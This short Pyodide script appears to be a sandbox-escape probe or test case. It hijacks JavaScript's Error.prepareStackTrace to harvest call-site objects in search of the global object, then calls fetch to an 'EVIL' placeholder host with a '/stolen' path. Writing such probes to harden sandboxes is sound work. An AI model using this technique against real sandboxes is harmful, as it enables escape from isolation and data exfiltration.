# Tries to find the global object, or functions of the box, in the call sites of a stack trace.
import pyodide.ffi, pyodide_js

found = []


def look(error, sites):
    for site in sites:
        found.extend([site.getThis(), site.getFunction()])
    return "looked"


Error = to_js([1]).constructor
try:
    pyodide_js.FS.readFile("/none")
except pyodide.ffi.JsException as error:
    Error = error.constructor
while getattr(Error, "name", "Error") != "Error" and hasattr(Error, "__proto__"):
    Error = Error.__proto__
Error.prepareStackTrace = create_proxy(look)
Error.stackTraceLimit = 100
for act in (lambda: Error.new("x").stack, lambda: pyodide_js.runPython("1/0"), lambda: to_js([1]).at.call(None)):
    try:
        act()
    except BaseException as error:
        print(type(error).__name__)
for thing in found:
    if thing is not None:
        print("reached:", thing)
        if hasattr(thing, "fetch"):
            thing.fetch(EVIL + "/stolen")
print(len(found), "looked at")
await asyncio.sleep(0.3)
print("tried")
